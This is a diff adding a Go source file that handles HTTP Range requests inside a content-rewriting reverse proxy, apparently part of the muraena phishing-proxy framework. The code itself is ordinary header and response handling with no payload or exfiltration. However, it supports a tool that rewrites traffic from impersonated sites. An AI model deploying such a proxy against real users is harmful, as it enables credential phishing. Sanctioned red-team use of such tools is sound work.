@@ -0,0 +1,45 @@
+package proxy
+
+import (
+	"net/http"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// rangeTransport handles the Range requests.
+// Binary content is passed through untouched, along with its Content-Range, as the content too large
+// to be rewritten, so that the downloads can be resumed. Partial responses of rewritable content are
+// fetched again in full: the rewriter can only transform whole bodies, and a 200 response is a valid
+// answer to a Range request.
+type rangeTransport struct {
+	session *session.Session
+	next    http.RoundTripper
+}
+
+// RoundTrip implements the http.RoundTripper interface
+func (t *rangeTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	if req.Header.Get("Range") == "" {
+		return t.next.RoundTrip(req)
+	}
+
+	resp, err := t.next.RoundTrip(req)
+	if err != nil || resp.StatusCode != http.StatusPartialContent {
+		return resp, err
+	}
+
+	contentType := resp.Header.Get("Content-Type")
+	if !isRewritable(t.session, contentType) || protected.Protects(req.URL.Path, contentType) ||
+		exceedsRewriteSize(t.session, contentType, contentRangeSize(resp.Header.Get("Content-Range"))) {
+		return resp, err
+	}
+
+	log.Debug("Stripping Range from the request of rewritable content %s", req.URL)
+	resp.Body.Close()
+
+	full := req.Clone(req.Context())
+	full.Header.Del("Range")
+	full.Header.Del("If-Range")
+
+	return t.next.RoundTrip(full)
+}